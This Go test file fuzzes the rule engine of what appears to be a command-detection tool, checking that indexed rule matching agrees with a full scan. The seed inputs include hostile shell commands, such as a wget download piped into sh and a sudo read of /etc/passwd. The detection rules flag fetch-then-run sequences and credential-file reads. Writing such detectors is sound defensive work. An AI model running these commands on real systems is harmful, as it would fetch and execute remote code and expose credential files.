package engine

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// fuzzRules are rules with every operator and composition, strong, weak and
// missing literals, case folding and derived fields.
func fuzzRules() []Source {
	matches := []string{
		`{pattern: '(?i)kernel\s+\d'}`, `{pattern: '\d{3}'}`, `{pattern: '[^a-z ]{2}'}`, `{contains: [wget, curl]}`,
		`{contains: STRASSE, ignore_case: true}`, `{equals: id}`, `{equals: ""}`, `{in_set: [w, who, ""]}`, `{starts_with: "sudo "}`,
		`{ends_with: ";"}`, `{starts_with: cat, ends_with: passwd}`, `{all_of: [{pattern: 'a.*b'}, {contains: etc}]}`,
		`{any_of: [{contains: tmp}, {pattern: '^x+$'}]}`, `{none_of: [{contains: a}]}`, `{all_of: [{none_of: [{contains: ssh}]}, {contains: key}]}`,
		`{field: simple_command, pattern: '^wget\s'}`, `{field: command_name, in_set: [w, id, cat]}`, `{field: redirect, contains: /etc/}`,
		`{field: pwd, contains: tmp}`, `{pattern: '(?:ab|cd|)e'}`, `{pattern: 'x*yz?'}`, `{pattern: '(?s)a.c'}`, `{pattern: '\bls\b'}`, `{pattern: 'ſ|K'}`,
		`{pattern: '\x{FFFD}'}`,
		`{command: {program: [wget, cat]}}`, `{command: {program: '@fetcher', no_option: [-q]}}`, `{command: {program: ['s*!', id!]}}`,
		`{command: {argument: {pattern: 'shad+ow'}}}`, `{command: {operand: '/etc/*'}}`, `{command: {operand: passwd}}`, `{command: {path: '/tmp/**'}}`,
		`{command: {program: sudo!, no_effect: {runs: any}}}`, `{command: {operand: '*.sh', input_from: {program: wget}}}`,
		`{command: {operands: {max: 1}, output_to: {argument: -, program: [sh!, wget]}}}`, `{effect: {reads: /etc/passwd}}`, `{effect: {reads: [/etc/**, '~/**']}}`,
		`{effect: {reads: {pattern: 'sh.d'}}}`, `{effect: {writes: {path: 'x*', how: create}}}`, `{effect: {writes: {path: any, how: [append, empty]}}}`,
		`{effect: {fetches: {host: 192.0.2.1}}}`, `{effect: {fetches: {host: [h.test, remote]}}}`, `{effect: {connects: any}}`, `{effect: {mode: any}}`,
		`{effect: {removes: any}}`, `{effect: {runs: '/tmp/**'}}`, `{effect: {runs: {path: any, except: '/tmp/**'}}}`, `{effect: {fetches: {url: 'http://*/x', host: 192.0.2.1}}}`,
		`{sequence: {same: file, steps: [{effect: {fetches: any}}, {effect: {writes: any}}]}}`, `{sequence: {steps: [{contains: wget}, {effect: {runs: any}}]}}`,
		`{sequence: {over: session, within: {commands: 9}, steps: [{effect: {fetches: any}}, {pattern: 'x*yz?'}, {command: {operand: '/etc/*'}}]}}`,
		`{pattern: '\bls\s+-\w+'}`, `{pattern: '(?i)wget.*sh\b'}`, `{pattern: 'wget|curl'}`, `{pattern: '^\w+ \S+$'}`, `{field: redirect, pattern: '^\d?>>'}`,
		`{pattern: 'ls.*[0-9]{2}', except: 'x$'}`, `{all_of: [{pattern: '\d'}, {field: pwd, pattern: '^/\w*$'}]}`, `{contains: sh, pattern: '\w{9}'}`,
		`{any_of: [{effect: {reads: f}}, {command: {program: id!}}, {pattern: 'k\d'}]}`, `{all_of: [{effect: {connects: any}}, {none_of: [{command: {program: wget}}]}]}`,
		`{any_of: [{command: {program: wget}}, {command: {operand: '/etc/*'}}, {pattern: 'x*yz?'}, {any_of: [{effect: {writes: any}}, {pattern: 'ls'}]}], none_of: [{pattern: 'q'}]}`,
		`{any_of: [{effect: {reads: any}}, {command: {program: id!}}, {contains: [wget, tmp]}], all_of: [{field: pwd, contains: tmp}]}`,
		`{sequence: {over: session, within: {commands: 9}, steps: [{any_of: [{effect: {fetches: any}}, {effect: {writes: f}}, {command: {program: id}}, {contains: xx}]}, {pattern: 'x*yz?'}]}}`,
	}
	srcs := packOf(len(matches), 1, 1)
	for i, m := range matches {
		srcs[i].Data = []byte(strings.Replace(string(srcs[i].Data), "match: {contains: probe}", "match: "+m, 1))
	}
	return srcs
}

// FuzzIndexEqualsScan holds the prefilter's invariant: it may admit what does
// not match, and never keeps out what does.
func FuzzIndexEqualsScan(f *testing.F) {
	for _, s := range append(benchCommands, "", "id", "KERNEL 5", "\u212aernel 5", "stra\u00dfe STRASSE", "a\xffb etc", "sudo cat /etc/passwd", "cat /etc/pass*d ./f", "wget -O x http://192.0.2.1/x | sh", "/tmp/a; echo >f; sudo id", "wget h.test/x.sh", "xxx", "\xe2\x84", "abe", "yz", "s k", "w\x00") {
		f.Add(s, "/tmp")
	}
	rs := mustCompile(f, fuzzRules())
	snap := NewSnapshot(rs, nil, testNow)
	one, two := NewScratch(), NewScratch()
	f.Fuzz(func(t *testing.T, text, pwd string) {
		ev := commandEvent(text)
		ev.SetField("pwd", event.StringValue(pwd))
		indexed := snap.Evaluate(nil, ev, testNow, one)
		scanned := snap.Scan(nil, ev, testNow, two)
		if d := rounds.Diff(scanned, indexed); d != "" {
			t.Errorf("index and scan differ on %q (-scan +index):\n%s", text, d)
		}
		told, held := one.TakeSightings(nil)[0], two.TakeSightings(nil)[0]
		if d := rounds.Diff(stepsOf(&held, true), stepsOf(&told, true)); d != "" {
			t.Errorf("index and scan place other steps of sequences on %q (-scan +index):\n%s", text, d)
		}
		if told.ev != nil {
			NewStage().lookAgain(&told) // as the stage does where it matters
		}
		if d := rounds.Diff(stepsOf(&held, false), stepsOf(&told, false)); d != "" {
			t.Errorf("index and scan see other steps of sequences on %q (-scan +index):\n%s", text, d)
		}
	})
}

// allSteps returns the steps that the evaluations since the last call told of, and
// then those whose places are known.
func allSteps(sc *Scratch) (steps []int) {
	for _, g := range sc.TakeSightings(nil) {
		steps = slices.Concat(steps, stepsOf(&g, false), stepsOf(&g, true))
	}
	return steps
}

// stepsOf returns the steps that a sighting tells of, or those whose places are known.
func stepsOf(g *Sighting, placed bool) []int {
	var steps []int
	for _, hit := range g.hits {
		switch {
		case !placed:
			steps = append(steps, int(hit.step.rule), hit.step.step)
		case len(hit.places) > 0:
			steps = append(steps, int(hit.step.rule), hit.step.step, len(hit.places))
		}
	}
	return steps
}

func TestRulesThatLackLiteralsAreStillIndexedByTheirSiblings(t *testing.T) {
	rs := compileRule(t, "command", "  all_of:\n    - {pattern: '\\d+'}\n    - {contains: wget}")
	ix := rs.indexOf(event.KindCommand)
	if len(ix.always) != 0 {
		t.Errorf("the rule runs on every event, want it admitted by wget")
	}
}

// A scratch serves one ruleset after another, and kinds of which nothing is indexed
// beside others: what the index found in an event before says nothing of the next.
func TestBranchesAreOfTheEventAtHand(t *testing.T) {
	indexed := compileRule(t, "command", "  any_of:\n    - {contains: wget}\n    - {contains: curl}")
	always := compileRule(t, "command", "  any_of:\n    - {contains: wget}\n    - {none_of: [{contains: q}]}")
	sc := NewScratch()
	before, after := NewSnapshot(indexed, nil, testNow), NewSnapshot(always, nil, testNow)
	if tags := before.Evaluate(nil, commandEvent("wget x"), testNow, sc); len(tags) != 1 {
		t.Fatalf("%d tags before, want 1", len(tags))
	}
	ev := commandEvent("id")
	got, want := after.Evaluate(nil, ev, testNow, sc), after.Scan(nil, ev, testNow, NewScratch())
	if d := cmp.Diff(want, got); d != "" || len(want) != 1 {
		t.Errorf("(-scan +index):\n%s", d)
	}
}
